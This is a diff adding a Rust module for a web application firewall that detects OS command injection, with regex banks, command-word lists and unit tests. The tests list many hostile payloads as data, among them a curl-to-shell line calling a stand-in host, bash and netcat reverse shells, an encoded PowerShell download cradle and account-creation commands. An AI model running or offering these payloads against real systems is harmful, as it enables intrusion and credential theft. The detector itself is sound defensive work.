@@ -1,0 +1,759 @@
+//! OS command injection (rules 1300–1399).
+//!
+//! Looks at the shell view of a value (quotes and escapes removed, lowercased) for a shell
+//! metacharacter or command substitution followed by a command word with an argument shape
+//! (a flag, a path, an address, or nothing more), for a value that is itself a command line, for
+//! absolute paths to system binaries, for reverse-shell, PowerShell and `cmd.exe` idioms, and for
+//! the expansion tricks used to hide command words (`${IFS}`, substring expansions, globs).
+//!
+//! Also home of [`Bank`], the compiled pattern bank the detectors of this family share.
+
+use std::sync::LazyLock;
+
+use aho_corasick::AhoCorasick;
+use regex::{Regex, RegexSet, RegexSetBuilder};
+
+use crate::model::{Class, Finding, Rule, Severity, Target};
+use crate::transform::{View, Views};
+
+/// A set of patterns compiled once: a [`RegexSet`] answers "does anything match" in one pass,
+/// and the single regexes give the matched fragment of the patterns that did.
+///
+/// A pattern that fails to compile is logged and never matches (no panic in the data path).
+pub(crate) struct Bank {
+    set: RegexSet,
+    /// Index in `pats` of each pattern in `set`.
+    map: Vec<usize>,
+    res: Vec<Option<Regex>>,
+    rules: Vec<usize>,
+    /// How many patterns failed to compile (a unit test asserts zero).
+    #[cfg_attr(not(test), allow(dead_code))]
+    pub(crate) failed: usize,
+}
+
+impl Bank {
+    /// Compiles `(rule index, pattern)` pairs. `\b` is made ASCII-only (keeps the fast engines
+    /// usable on any haystack).
+    pub(crate) fn new(what: &str, pats: &[(usize, &str)]) -> Bank {
+        let mut failed = 0usize;
+        let mut res = Vec::with_capacity(pats.len());
+        let mut map = Vec::with_capacity(pats.len());
+        let mut srcs = Vec::with_capacity(pats.len());
+        for (i, (_, p)) in pats.iter().enumerate() {
+            let src = p.replace(r"\b", r"(?-u:\b)");
+            match Regex::new(&src) {
+                Ok(re) => {
+                    res.push(Some(re));
+                    map.push(i);
+                    srcs.push(src);
+                }
+                Err(e) => {
+                    tracing::error!(detector = what, pattern = *p, error = %e, "WAF pattern does not compile; it will never match");
+                    failed += 1;
+                    res.push(None);
+                }
+            }
+        }
+        let set = RegexSetBuilder::new(&srcs)
+            .size_limit(64 << 20)
+            .dfa_size_limit(16 << 20)
+            .build()
+            .unwrap_or_else(|e| {
+                tracing::error!(detector = what, error = %e, "WAF pattern set does not compile; it will never match");
+                failed += srcs.len();
+                RegexSet::empty()
+            });
+        Bank {
+            set,
+            map,
+            res,
+            rules: pats.iter().map(|(r, _)| *r).collect(),
+            failed,
+        }
+    }
+
+    /// Calls `f(rule index, matched fragment)` for every matching pattern.
+    pub(crate) fn scan<'h>(&self, hay: &'h str, mut f: impl FnMut(usize, &'h str)) {
+        if !self.set.is_match(hay) {
+            return;
+        }
+        for si in self.set.matches(hay).iter() {
+            let Some(&pi) = self.map.get(si) else {
+                continue;
+            };
+            if let Some(Some(re)) = self.res.get(pi)
+                && let Some(m) = re.find(hay)
+            {
+                f(self.rules[pi], m.as_str());
+            }
+        }
+    }
+}
+
+/// A literal prefilter (ASCII case-insensitive): a bank runs only on a value containing one of
+/// the literals its patterns cannot match without. If the automaton cannot be built, every
+/// value passes (the banks still decide).
+pub(crate) struct Literals(Option<AhoCorasick>);
+
+impl Literals {
+    pub(crate) fn new(what: &str, lits: &[&str]) -> Literals {
+        match AhoCorasick::builder()
+            .ascii_case_insensitive(true)
+            .build(lits)
+        {
+            Ok(ac) => Literals(Some(ac)),
+            Err(e) => {
+                tracing::error!(detector = what, error = %e, "WAF literal prefilter does not build; inspecting every value");
+                Literals(None)
+            }
+        }
+    }
+
+    pub(crate) fn any(&self, hay: &str) -> bool {
+        self.0.as_ref().is_none_or(|ac| ac.is_match(hay))
+    }
+
+    /// Which of two groups of literals occur: those before index `split` and the others
+    /// (both, when the automaton could not be built).
+    pub(crate) fn groups(&self, hay: &str, split: usize) -> (bool, bool) {
+        let Some(ac) = &self.0 else {
+            return (true, true);
+        };
+        let (mut a, mut b) = (false, false);
+        for m in ac.find_overlapping_iter(hay) {
+            if m.pattern().as_usize() < split {
+                a = true;
+            } else {
+                b = true;
+            }
+            if a && b {
+                break;
+            }
+        }
+        (a, b)
+    }
+
+    #[cfg(test)]
+    pub(crate) fn built(&self) -> bool {
+        self.0.is_some()
+    }
+}
+
+/// Records one finding per rule per target: `seen` is a bitmask of rule indexes already pushed.
+#[allow(clippy::too_many_arguments)]
+pub(crate) fn push_once(
+    rules: &'static [Rule],
+    idx: usize,
+    seen: &mut u64,
+    paranoia: u8,
+    t: &Target<'_>,
+    view: View,
+    matched: &str,
+    out: &mut Vec<Finding>,
+) {
+    let Some(rule) = rules.get(idx) else { return };
+    let bit = 1u64 << (idx % 64);
+    if *seen & bit != 0 || rule.paranoia > paranoia {
+        return;
+    }
+    *seen |= bit;
+    out.push(Finding::new(rule, t, view, matched));
+}
+
+const fn rule(id: u32, severity: Severity, paranoia: u8, description: &'static str) -> Rule {
+    Rule {
+        id,
+        class: Class::CommandInjection,
+        severity,
+        paranoia,
+        description,
+    }
+}
+
+pub static RULES: &[Rule] = &[
+    rule(
+        1300,
+        Severity::Critical,
+        1,
+        "shell metacharacter or command substitution followed by a command",
+    ),
+    rule(
+        1301,
+        Severity::Critical,
+        1,
+        "value is a command line (command with a flag, path or address argument)",
+    ),
+    rule(
+        1302,
+        Severity::Critical,
+        1,
+        "path to a system binary in a shell context",
+    ),
+    rule(1303, Severity::Critical, 1, "reverse shell idiom"),
+    rule(1304, Severity::Critical, 1, "PowerShell execution idiom"),
+    rule(
+        1305,
+        Severity::Critical,
+        1,
+        "Windows command interpreter idiom",
+    ),
+    rule(
+        1306,
+        Severity::Critical,
+        1,
+        "shell expansion trick hiding a command (IFS, substring, ANSI-C quoting, glob paths)",
+    ),
+    rule(
+        1307,
+        Severity::Critical,
+        1,
+        "call of a command-execution function",
+    ),
+    rule(
+        1308,
+        Severity::Critical,
+        1,
+        "server-side include exec directive",
+    ),
+    rule(
+        1309,
+        Severity::Critical,
+        1,
+        "Shellshock function definition",
+    ),
+    rule(
+        1310,
+        Severity::Error,
+        1,
+        "Windows environment variable expansion",
+    ),
+    rule(1311, Severity::Error, 1, "server-side include directive"),
+    rule(
+        1312,
+        Severity::Warning,
+        2,
+        "caret-obfuscated Windows command word",
+    ),
+    rule(
+        1313,
+        Severity::Critical,
+        1,
+        "shell variable assigned, then executed as a command",
+    ),
+    rule(
+        1314,
+        Severity::Warning,
+        2,
+        "command separator followed by a command word",
+    ),
+    rule(
+        1315,
+        Severity::Error,
+        2,
+        "shell variable executed as a command",
+    ),
+];
+
+/// Command words: Unix utilities, interpreters, network tools and Windows commands.
+const CMDS: &str = "whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ncat|netcat|socat|telnet|\
+bash|zsh|ksh|csh|tcsh|dash|busybox|python[23]?(?:\\.[0-9]+)?|perl[0-9]?|ruby|php[0-9]?|node|nodejs|lua|\
+powershell|pwsh|certutil|bitsadmin|systeminfo|tasklist|taskkill|regsvr32|rundll32|mshta|wmic|cscript|\
+wscript|schtasks|crontab|nohup|mkfifo|mknod|base64|xxd|useradd|usermod|userdel|chmod|chown|chgrp|\
+printenv|hostname|getent|traceroute|tracert|nmap|tftp|sudo|passwd|net1?|netsh|icacls|cacls|reg|\
+cat|tac|nl|head|tail|more|less|ls|dir|id|pwd|env|ps|kill|killall|pkill|sleep|timeout|ping|echo|printf|rm|\
+cp|mv|touch|mkdir|rmdir|find|grep|egrep|awk|gawk|sed|cut|tee|dd|tar|zip|unzip|gzip|gunzip|who|w|last|\
+uptime|type|copy|del|erase|move|ren|ver|vol|start|set|nc|sh|host|dig|ftp|ssh|scp|rsync|wc|od|strings|eval|\
+exec|source|export|call|lsof|ifup|route|arp|mount|umount|df|du|crontab|at|nproc|lscpu|lsb_release|\
+findstr|attrib|xcopy|robocopy|cipher|vssadmin|bcdedit|wevtutil|sc|shutdown|reboot|halt|init|systemctl|\
+service|chkconfig|iptables|apt|apt-get|yum|dnf|pip|pip3|npm|gcc|make|java|javac|jrunscript|osascript|\
+openssl|xterm|screen|tmux|script|expect|whois|finger|fetch|lynx|links|tclsh|wish|jexec|ldd|strace|\
+gdb|sqlite3|mysql|psql|mongo|redis-cli|dos2unix|base32|md5sum|sha1sum|sha256sum|file|stat|readlink|\
+realpath|basename|dirname|uniq|sort|tr|rev|fold|paste|xargs|true|false|test|whereis|which|locate|\
+history|alias|unset|ulimit|umask|id|groups|users|lastlog|dmesg|sysctl|modprobe|insmod|lsmod";
+
+/// Command words that are rarely English words: enough on their own after a separator.
+const STRONG: &str = "whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|ncat|netcat|socat|busybox|\
+certutil|bitsadmin|systeminfo|tasklist|taskkill|regsvr32|rundll32|mshta|wmic|cscript|wscript|schtasks|\
+crontab|nohup|mkfifo|xxd|useradd|usermod|chmod|chown|printenv|getent|traceroute|tracert|netsh|icacls|\
+cacls|vssadmin|bcdedit|wevtutil|lsb_release|jrunscript|osascript|findstr";
+
+/// Command words that do something useful with no argument at all (`;id`, `|whoami`).
+const NOARG: &str = "id|whoami|uname|ls|dir|pwd|env|ps|who|ifconfig|ipconfig|netstat|hostname|\
+systeminfo|tasklist|set|ver|uptime|printenv|history|groups|users|lastlog|dmesg|sh|bash|zsh|ksh|csh|\
+cmd|powershell|pwsh|lsb_release|nproc|lscpu|getuid|net1?|arp|route|mount|df|reboot|shutdown|halt";
+
+/// Command words whose typical attack argument is a bare number or address (`sleep 5`).
+const NUMARG: &str = "sleep|ping|timeout|kill|usleep";
+
+/// Patterns over the shell view (lowercase, quotes and escapes removed). `WS` also accepts `+`,
+/// a space as a form-encoded value carries it.
+static SHELL: LazyLock<Bank> = LazyLock::new(|| {
+    let ws = r"[\s+]";
+    // An argument that makes a command word a command: a flag, a path, a variable, a quote, a
+    // redirection, a drive, a number or address, a dotted name, a URL.
+    let arg = r"(?:-{1,2}[a-z0-9]|[/\\~$`'<>]|[a-z]:(?:[\\/]|$|[\s+|;&])|(?:[0-9]{1,3}\.){3}[0-9]{1,3}|[a-z][a-z0-9_-]*\.(?:[a-z]{2,4}|[0-9]+)\b|https?:|ftp:)";
+    let sep = r"(?:[;|&\n\r]|\$\()";
+    let end = r"(?:$|[;|&`)\n\r'\x22\\])";
+    let p1300 = format!(
+        r"{sep}{ws}*(?:(?:{NOARG})(?:\.exe)?{ws}*{end}|(?:{CMDS})(?:\.exe)?{ws}+{arg}|(?:{NUMARG})(?:\.exe)?{ws}+[0-9])"
+    );
+    let p1300b = format!(r"{sep}{ws}*(?:{STRONG})(?:\.exe)?\b");
+    // Command substitution with backticks: at the start of the value or glued to what
+    // precedes it (`a`id``), any command; after a space (inline code in prose), only a
+    // command with an argument shape.
+    let p1300c = format!(
+        r"(?:^[\s+'\x22(=]*|[a-z0-9_=;|&'\x22)])`{ws}*(?:{CMDS}|true|false)(?:\.exe)?(?:{ws}[^`]*)?`"
+    );
+    let p1300d = format!(r"`{ws}*(?:{CMDS})(?:\.exe)?{ws}+{arg}[^`]*`");
+    // A value that starts with a command and chains another one.
+    let p1300e = format!(r"^[\s+'\x22(]*(?:{NOARG})(?:\.exe)?{ws}*(?:[;|&`]|\$\()");
+    // The whole value a command line: a command, then argument-shaped tokens (flags, paths,
+    // drives, numbers, addresses, URLs, file names, quoted strings) with at most one bare word
+    // among them, up to the end or a metacharacter. Prose that starts with a command word
+    // ("rm -rf is dangerous") has more bare words.
+    let shaped = r"(?:-{1,2}[a-z0-9][\w=.,:-]*|[/\\~$.][^\s+;|&]*|[a-z]:(?:[\\/][^\s+;|&]*)?|[0-9][\w.:-]*|'[^']*'|\x22[^\x22]*\x22|[a-z]+://[^\s+;|&]+|[\w-]+\.[a-z0-9]{1,5}|[<>]{1,2}[^\s+;|&]*|`[^`]*`|\$\([^)]*\))";
+    let bare = r"[a-z][\w@.-]{0,30}";
+    let first = r"(?:-{1,2}[a-z][\w=.,:-]*|[/\\~$][^\s+;|&]*|[a-z]:[\\/][^\s+;|&]*|(?:[0-9]{1,3}\.){3}[0-9]{1,3}[^\s+;|&]*|[a-z]+://[^\s+;|&]+|[<>]{1,2}[^\s+;|&]*|`[^`]*`|\$\([^)]*\))";
+    let p1301 = format!(
+        r"^[\s+'\x22(]*(?:{CMDS})(?:\.exe)?{ws}+{first}(?:{ws}+{shaped})*(?:{ws}+{bare})?(?:{ws}+{shaped})*{ws}*(?:$|[;|&`])"
+    );
+    let p1301b = format!(
+        r"^[\s+'\x22(]*(?:dir|cd|type|copy|del|move|ren|attrib|xcopy|robocopy|cacls|icacls|tree)(?:\.exe)?{ws}+[a-z]:{ws}*(?:$|[;|&`])"
+    );
+    let p1302 = format!(
+        r"(?:^|[\s+;|&`'\x22(=$<>:])(?:/usr(?:/local)?/s?bin/|/s?bin/|usr/s?bin/)(?:{CMDS}|[a-z?*]*[?*][a-z?*]*)(?:$|[^a-z0-9_.-])"
+    );
+    let p1303 = [
+        r"/dev/(?:tcp|udp)/",
+        r"\b(?:ba|z|k|da)?sh[\s+]+-i\b",
+        r"\bnc(?:at)?(?:\.exe)?[\s+](?:[^|;&\n]*[\s+])?-[a-z]*[ec][\s+]",
+        r"\bmkfifo[\s+]+/",
+        r"\bsocat[\s+]+[^\n]*(?:exec|system|tcp|pty)[:-]",
+        r"-e[\s+]*/bin/(?:ba|z|k|da)?sh\b",
+        r"[0-9]?>&[\s+]*/dev/",
+        r"[<>]&[\s+]*[0-9]+[\s+]*[<>]",
+        r"\bpty\.spawn\b",
+        r"\bsocket\.socket\b",
+        r"\btcpsocket\.(?:new|open)\b",
+        r"\bfsockopen\s*\(",
+        r"\bnew-object[\s+]+(?:system\.)?net\.sockets\.tcpclient",
+    ];
+    let p1304 = [
+        r"(?:^|[;|&(\s+])(?:invoke-expression|invoke-webrequest|iwr|invoke-restmethod|irm|invoke-command|icm|invoke-wmimethod|invoke-item|invoke-shellcode|invoke-mimikatz)[\s+]*[(\x22'$-]",
+        r"\.(?:downloadstring|downloadfile|downloaddata|uploadstring|uploadfile)[\s+]*\(",
+        r"::frombase64string[\s+]*\(",
+        r"\b(?:start-bitstransfer|set-mppreference|add-mppreference)\b",
+        r"\bstart-process[\s+]+(?:-[a-z]|[a-z]:|\S+\.exe\b|powershell|pwsh|cmd\b)",
+        r"\bnew-object[\s+]+(?:-typename[\s+]+)?(?:system\.)?net\.webclient\b",
+        r"(?:^|[;|&(\s+])iex[\s+]*[(\x22'$]",
+        r"\|[\s+]*iex\b",
+        r"\b(?:powershell|pwsh)(?:\.exe)?[\s+]+[-/](?:c|command|e|ec|enc|encodedcommand|nop|noprofile|noni|noninteractive|w|windowstyle|ep|exec|executionpolicy|file|f|sta|noexit)\b",
+        r"-(?:executionpolicy|ep|exec)[\s+]+bypass\b",
+        r"-(?:enc|encodedcommand|ec)[\s+]+[a-z0-9+/=]{16,}",
+        r"\[system\.(?:convert|text\.encoding|reflection\.assembly)\]::",
+    ];
+    let p1305 = [
+        r"\bcmd(?:\.exe[\s+]*|[\s+]+)/[ckr]\b",
+        r"%comspec%",
+        r"\bcertutil(?:\.exe)?[\s+]+-(?:urlcache|decode|encode|decodehex|f|split)\b",
+        r"\bbitsadmin(?:\.exe)?[\s+]+/(?:transfer|create|addfile|resume|setnotifycmdline)\b",
+        r"(?:^|[;|&\n])[\s+]*net1?(?:\.exe)?[\s+]+(?:user|localgroup|group|accounts|share|view|session)(?:[\s+]*(?:$|[;|&])|\b[^\n;|&]*[\s+]/(?:add|del|delete|domain|active|y|persistent)\b)",
+        r"\brundll32(?:\.exe)?[\s+]+[^\s,]+,",
+        r"\bregsvr32(?:\.exe)?[\s+]+/",
+        r"\bmshta(?:\.exe)?[\s+]+(?:https?:|vbscript:|javascript:|\\\\)",
+        r"\bwmic(?:\.exe)?[\s+]+(?:process|os|useraccount|/node|shadowcopy|service|product|qfe|computersystem|nicconfig)\b",
+        r"\bschtasks(?:\.exe)?[\s+]+/(?:create|run|change)\b",
+        r"\breg(?:\.exe)?[\s+]+(?:add|query|delete|save|export|import)[\s+]+hk",
+        r"\bvssadmin(?:\.exe)?[\s+]+(?:delete|list|create|resize)\b",
+        r"\bwhoami(?:\.exe)?[\s+]+/(?:all|priv|groups|user|fqdn)\b",
+        r"\bforfiles(?:\.exe)?[\s+]+/[pmc]\b",
+        r"\b(?:cscript|wscript)(?:\.exe)?[\s+]+(?://[a-z]+[\s+]+)*[^\s]+\.(?:vbs|js|jse|wsf|vbe)\b",
+    ];
+    let p1306 = [
+        r"/\?{2,}/",
+        r"(?:^|[\s+;|&`])/[a-z]*\?[a-z?]*/[a-z?]*\?",
+        r"\$\{[a-z_][a-z0-9_]*:(?:[0-9]+| -[0-9]+)(?::-?[0-9]+)?\}",
+        r"%[a-z_]+:~-?[0-9]+(?:,-?[0-9]+)?%",
+        r"\$'(?:[^']*\\(?:x[0-9a-f]{2}|[0-7]{3}|u[0-9a-f]{4}))",
+        r"\$\((?:printf|echo)[\s+][^)]*\\(?:x[0-9a-f]{2}|[0-7]{3})",
+        r"\b(?:base64|xxd)[\s+]+(?:-d|--decode|-r)\b[^|]*\|[\s+]*(?:ba|z|k|da)?sh\b",
+        r"\|[\s+]*(?:ba|z|k|da)?sh(?:$|[\s+;&|])",
+        r"\|[\s+]*(?:/usr)?/bin/(?:ba|z|k|da)?sh\b",
+    ];
+    let p1307 = [
+        r"\b(?:system|passthru|shell_exec|proc_open|popen|pcntl_exec|exec|execv|execve|execvp|spawn|spawnsync|execsync|execfile)\([\x22'`$]?[\s+]*(?:/|[a-z]:\\|(?:CMDS)(?:$|[\s+;|&\x22'`)]))",
+        r"\bos\.(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?|posix_spawn)[\s+]*\(",
+        r"\bsubprocess\.(?:call|run|popen|check_output|check_call|getoutput|getstatusoutput)[\s+]*\(",
+        r"\bruntime\.getruntime\(\)\.exec\b",
+        r"\bprocessbuilder[\s+]*\(",
+        r"\brequire[\s+]*\([\s+]*[\x22'`](?:node:)?child_process",
+        r"\bchild_process\b[^\n]*\.(?:exec|spawn|execsync|spawnsync|execfile)\b",
+        r"\bprocess\.(?:binding|mainmodule)\b",
+        r"\bphpinfo[\s+]*\([\s+]*\)",
+    ]
+    .map(|p| p.replace("CMDS", CMDS));
+    let p1308 = r"<!--[\s+]*#[\s+]*exec\b";
+    let p1309 = r"^[\s+'\x22]*\([\s+]*\)[\s+]*\{";
+    let p1311 =
+        r"<!--[\s+]*#[\s+]*(?:include|echo|config|fsize|flastmod|printenv|set)[\s+]+[a-z]+[\s+]*=";
+    let p1312 = r"\b[a-z]\^[a-z]\^?[a-z]*\^[a-z]";
+    let p1313 = r"(?:^|[;|&\n\s+])[a-z_][a-z0-9_]*=[^;|&\s]*[;|&][\s+]*\$\{?[a-z_][a-z0-9_]*\}?[\s+]*(?:$|[;|&])";
+    let p1315 = r"(?:^|[;|&\n])[\s+]*\$\{?[a-z_][a-z0-9_]*\}?[\s+]*(?:$|[;|&])";
+    let p1314 = format!(r"(?:[;|&\n\r`]|\$\(){ws}*(?:{CMDS})(?:\.exe)?\b");
+
+    let mut pats: Vec<(usize, String)> = vec![
+        (0, p1300),
+        (0, p1300b),
+        (0, p1300c),
+        (0, p1300d),
+        (0, p1300e),
+        (1, p1301),
+        (1, p1301b),
+        (2, p1302),
+        (8, p1308.to_string()),
+        (9, p1309.to_string()),
+        (11, p1311.to_string()),
+        (12, p1312.to_string()),
+        (14, p1314),
+    ];
+    pats.extend(p1303.iter().map(|p| (3, p.to_string())));
+    pats.extend(p1304.iter().map(|p| (4, p.to_string())));
+    pats.extend(p1305.iter().map(|p| (5, p.to_string())));
+    pats.extend(p1306.iter().map(|p| (6, p.to_string())));
+    pats.extend(p1307.into_iter().map(|p| (7, p)));
+    pats.push((13, p1313.to_string()));
+    pats.push((15, p1315.to_string()));
+    let refs: Vec<(usize, &str)> = pats.iter().map(|(r, p)| (*r, p.as_str())).collect();
+    Bank::new("cmdi", &refs)
+});
+
+/// Patterns over the decoded view (case kept, so `(?i)`): what the shell view erases.
+static DECODED: LazyLock<Bank> = LazyLock::new(|| {
+    let nl = format!(
+        r"(?i)[\n\r][\s+]*(?:(?:{NOARG})(?:\.exe)?[ \t+]*(?:$|[;|&])|(?:{CMDS})(?:\.exe)?[\s+]+(?:-{{1,2}}[a-z]|/|[a-z]:[\\/]|\$))"
+    );
+    let nl_strong = format!(r"(?i)[\n\r][\s+]*(?:{STRONG})(?:\.exe)?\b");
+    // A value that opens with a line break and a command on its own line.
+    let nl_first = format!(r"(?i)^[\r\n]+[ \t+]*(?:{NOARG})(?:\.exe)?[ \t+]*(?:[\r\n]|$)");
+    let pats: Vec<(usize, String)> = vec![
+        (0, nl),
+        (0, nl_strong),
+        (0, nl_first),
+        (6, r"(?i)\$\{?ifs\b".to_string()),
+        (6, r"(?i)[a-z]\$@[a-z]".to_string()),
+        (
+            10,
+            r"(?i)%(?:systemroot|windir|username|userprofile|userdomain|computername|appdata|localappdata|programfiles|programdata|homepath|homedrive|logonserver|os|path|temp|tmp|public|allusersprofile|processor_architecture|systemdrive)%"
+                .to_string(),
+        ),
+    ];
+    let refs: Vec<(usize, &str)> = pats.iter().map(|(r, p)| (*r, p.as_str())).collect();
+    Bank::new("cmdi", &refs)
+});
+
+/// Words and fragments the rules that need neither a metacharacter nor a leading command word
+/// look for (interpreters and Windows tools used mid-value, code-execution calls).
+static LITS: LazyLock<Literals> = LazyLock::new(|| {
+    Literals::new(
+        "cmdi",
+        &[
+            "bin/",
+            "/dev/",
+            "powershell",
+            "pwsh",
+            "cmd",
+            "comspec",
+            "certutil",
+            "bitsadmin",
+            "rundll32",
+            "regsvr32",
+            "mshta",
+            "wmic",
+            "schtasks",
+            "vssadmin",
+            "forfiles",
+            "cscript",
+            "wscript",
+            "whoami",
+            "invoke-",
+            "download",
+            "upload",
+            "frombase64",
+            "bitstransfer",
+            "mppreference",
+            "start-process",
+            "net.webclient",
+            "iex",
+            "bypass",
+            "-enc",
+            "-ec",
+            "::",
+            "net user",
+            "net1 user",
+            "net localgroup",
+            "net group",
+            "reg ",
+            "reg.exe",
+            "mkfifo",
+            "socat",
+            "pty.spawn",
+            "socket",
+            "fsockopen",
+            "tcpclient",
+            "nc ",
+            "ncat",
+            "sh -i",
+            "system",
+            "passthru",
+            "shell_exec",
+            "proc_open",
+            "popen",
+            "pcntl",
+            "exec",
+            "spawn",
+            "os.",
+            "subprocess",
+            "getruntime",
+            "processbuilder",
+            "child_process",
+            "process.",
+            "phpinfo",
+            "()",
+            "( )",
+            "<!--",
+            "base64",
+            "xxd",
+        ],
+    )
+});
+
+/// A word of at most 16 bytes as an integer (big-endian, zero-padded): the leading-word check
+/// compares integers, not strings.
+fn word_key(w: &[u8]) -> Option<u128> {
+    if w.is_empty() || w.len() > 16 {
+        return None;
+    }
+    let mut b = [0u8; 16];
+    for (d, s) in b.iter_mut().zip(w) {
+        *d = s.to_ascii_lowercase();
+    }
+    Some(u128::from_be_bytes(b))
+}
+
+/// Every command word, for the leading-word check (as [`word_key`]s, sorted).
+static WORDS: LazyLock<Vec<u128>> = LazyLock::new(|| {
+    let mut w: Vec<u128> = CMDS
+        .split('|')
+        .filter(|w| {
+            w.bytes()
+                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_' || b == b'-')
+        })
+        .chain(["python", "perl", "php", "net"])
+        .filter_map(|w| word_key(w.as_bytes()))
+        .collect();
+    w.sort_unstable();
+    w.dedup();
+    w
+});
+
+/// Whether the value starts (after spaces, quotes, a parenthesis) with a command word followed
+/// by a space, `+`, `.` (`ping.exe`) or a metacharacter.
+fn starts_with_command_word(s: &str) -> bool {
+    let t = s
+        .trim_start_matches([' ', '+', '\'', '"', '(', '\t'])
+        .as_bytes();
+    let n = t
+        .iter()
+        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'))
+        .count();
+    if n == 0
+        || !matches!(
+            t.get(n),
+            Some(b' ' | b'+' | b'.' | b'\t' | b';' | b'|' | b'&')
+        )
+    {
+        return false;
+    }
+    let word = &t[..n];
+    let is_word = |w: &[u8]| word_key(w).is_some_and(|k| WORDS.binary_search(&k).is_ok());
+    if is_word(word) {
+        return true;
+    }
+    // `python3`, `perl5`, `net1`: the word without its version digits.
+    let base_len = word.len() - word.iter().rev().take_while(|b| b.is_ascii_digit()).count();
+    base_len < word.len() && is_word(&word[..base_len])
+}
+
+/// Whether any rule here could match `s` (raw, or shell view when quoting may hide a word).
+fn has_trigger(s: &str) -> bool {
+    s.bytes().any(|b| {
+        matches!(
+            b,
+            b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'^' | b'<' | b'%'
+        )
+    }) || (s.contains('/') && s.contains(['?', '*']))
+        || starts_with_command_word(s)
+        || LITS.any(s)
+}
+
+pub fn inspect(t: &Target<'_>, views: &mut Views, paranoia: u8, out: &mut Vec<Finding>) {
+    let raw = views.get(View::Raw);
+    if !has_trigger(raw) {
+        // Quotes, escapes and braces may hide a command word (`c'a't`, `{cat,/etc/passwd}`).
+        if !raw.contains(['\'', '"', '\\', '{']) || !has_trigger(views.get(View::Shell)) {
+            return;
+        }
+    }
+    let mut seen = 0u64;
+    {
+        let shell = views.get(View::Shell);
+        SHELL.scan(shell, |r, m| {
+            push_once(RULES, r, &mut seen, paranoia, t, View::Shell, m, out)
+        });
+    }
+    let decoded = views.get(View::Decoded);
+    if decoded
+        .bytes()
+        .any(|b| matches!(b, b'\n' | b'\r' | b'$' | b'%'))
+    {
+        DECODED.scan(decoded, |r, m| {
+            push_once(RULES, r, &mut seen, paranoia, t, View::Decoded, m, out)
+        });
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::{Location, Part};
+
+    fn ids(v: &str, pl: u8) -> Vec<u32> {
+        let t = Target::new(Location::Query, "q", Part::Value, v);
+        let mut views = Views::new();
+        views.load(v);
+        let mut out = Vec::new();
+        inspect(&t, &mut views, pl, &mut out);
+        out.iter().map(|f| f.rule).collect()
+    }
+
+    fn blocked(v: &str) -> bool {
+        let t = Target::new(Location::Query, "q", Part::Value, v);
+        let mut views = Views::new();
+        views.load(v);
+        let mut out = Vec::new();
+        inspect(&t, &mut views, 1, &mut out);
+        out.iter().map(|f| f.severity.score()).sum::<u32>() >= 5
+    }
+
+    #[test]
+    fn patterns_compile() {
+        assert_eq!(SHELL.failed, 0);
+        assert_eq!(DECODED.failed, 0);
+        assert!(LITS.built());
+        assert!(starts_with_command_word("cat /etc/passwd"));
+        assert!(starts_with_command_word("Python3 -c x"));
+        assert!(starts_with_command_word("ping.exe -n 1"));
+        assert!(!starts_with_command_word("blue walking boots"));
+    }
+
+    #[test]
+    fn rule_ids_are_in_block_and_unique() {
+        let mut seen = std::collections::HashSet::new();
+        for r in RULES {
+            assert!((1300..1400).contains(&r.id));
+            assert!(seen.insert(r.id));
+            assert!((1..=4).contains(&r.paranoia));
+        }
+        assert!(RULES.len() <= 64);
+    }
+
+    #[test]
+    fn attacks() {
+        for v in [
+            ";id",
+            "; id",
+            "a;id|",
+            "|id|",
+            "a)|/usr/bin/id",
+            "/usr/bin/id",
+            "`id`",
+            "$(whoami)",
+            "cat /etc/passwd",
+            "ping -i 30 127.0.0.1",
+            "& ping -n 30 127.0.0.1 &",
+            "; /bin/sleep 31 ;",
+            "ls -la /tmp",
+            "uname -n -s",
+            "dir c:\\",
+            "&& dir c:/",
+            "x\nid",
+            "x\n/usr/bin/id\n",
+            "\n/bin/ls -al\n",
+            "; curl http://evil.example/x | sh",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "nc -e /bin/sh 10.0.0.1 4444",
+            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
+            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
+            "cmd.exe /c whoami",
+            "%COMSPEC% /c dir",
+            "certutil -urlcache -split -f http://x/a.exe",
+            "cat${IFS}/etc/passwd",
+            "/???/??t /???/p??s??",
+            ";system('id')",
+            "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
+            "() { :; }; /bin/bash -c 'id'",
+            "ping.exe -n 31 127.0.0.1",
+            "; net user hacker P@ss /add",
+            "`true`",
+            "a`id`",
+            "c'a't /etc/passwd",
+            ";c\\at /etc/passwd",
+            "{cat,/etc/passwd}",
+            "%3Bid",
+            "%253Bwhoami",
+            "W'h'O'a'M'i;",
+            "id;",
+            "CMD=$'id';$CMD",
+            "','')); phpinfo(); exit;/*",
+        ] {
+            assert!(blocked(v), "not blocked: {v:?} -> {:?}", ids(v, 1));
+        }
+    }
+
+    #[test]
+    fn benign() {
+        for v in [
+            "cat toys",
+            "Ping me later",
+            "Tom & Jerry",
+            "python & ruby",
+            "salt & pepper; cat lovers",
+            "R&D department",
+            "id",
+            "sort=-name",
+            "2024-01-02",
+            "c/ caridad s/n",
+            "https://example.com/bin/view/Main",
+            "I love python; perl is fine too",
+            "Raleigh; NC",
+            "see (above)",
+            "type 2 diabetes",
+            "more info",
+            "echo chamber",
+            "net income - taxes",
+            "set it to `true` to enable",
+            "run `make` first",
+            "Admins\nUsers\nGuests",
+            "name\nid\nemail",
+            "the operating system (which runs it)",
+            "{\"action\": \"downloadFile\"}",
+            "/docs/invoke-webrequest",
+            "/api/cmd/c/list",
+            "net user growth was strong",
+            "install it to /usr/local/bin/mytool",
+            "src/**/*.js",
+        ] {
+            assert!(!blocked(v), "blocked: {v:?} -> {:?}", ids(v, 1));
+        }
+    }
+}
